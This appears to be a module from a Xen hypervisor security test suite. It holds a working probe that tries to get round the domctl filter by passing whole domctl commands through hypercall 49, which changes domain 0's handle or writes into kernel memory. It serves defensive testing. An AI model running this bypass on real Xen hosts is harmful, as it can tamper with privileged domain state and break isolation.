//! The number by which Xen continues a long domctl, called as a way round a filter on domctl.

use super::{Attack, Level};
use crate::calls::{Guest, domctl_buffer, number};
use crate::outcome::{Outcome, breached, held};
use crate::witness::{HostName, guest_page_works};
use crate::xen::Privcmd;

pub(super) const ATTACK: Attack = Attack {
    id: "paging-continuation",
    rule: "B3",
    level: Level::Integrity,
    summary: "paging_domctl_cont (49) takes a whole domctl from anybody: other commands than its own, and one in kernel memory",
    needs: "privcmd",
    observed: "domain 0's handle changes, or the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || guest_page_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    const SETDOMAINHANDLE: u32 = 17;
    const SHADOW_OP: u32 = 10;
    let privcmd = Privcmd::open()?;
    let before = privcmd.own_handle()?;

    // Another command: would it be carried out?
    let whole = domctl_buffer(SETDOMAINHANDLE, 0, b"way-round-domctl")?;
    let other = privcmd.hypercall(number::PAGING_DOMCTL_CONT, [whole.address(), 0, 0, 0, 0]);
    let after = privcmd.own_handle()?;
    if after != before {
        drop(privcmd.domctl(SETDOMAINHANDLE, 0, &before));
        return breached("setdomainhandle was carried out by hypercall 49");
    }

    // Its own command, with the structure in kernel memory.
    let guest = Guest::create(&privcmd, &[])?;
    let head = domctl_buffer(SHADOW_OP, guest.id, &[0xff; 40])?.read(0, 60);
    let name = HostName::set(&head)?;
    let own = privcmd.hypercall(number::PAGING_DOMCTL_CONT, [name.address, 0, 0, 0, 0]);
    if name.changed()? {
        return breached(name.told()?);
    }
    held(format!("another command: {other:?}; its own in kernel memory: {own:?}"))
}
